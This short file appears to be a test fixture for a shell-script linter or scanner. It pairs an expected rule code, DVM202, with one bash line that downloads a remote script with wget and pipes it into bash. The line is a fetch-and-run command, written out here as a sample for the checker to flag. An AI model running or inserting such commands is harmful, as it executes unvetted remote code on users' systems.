# expect: DVM202
mapfile -t lines < <(wget -qO- https://x.example.org/i.sh); printf '%s\n' "${lines[@]}" | bash
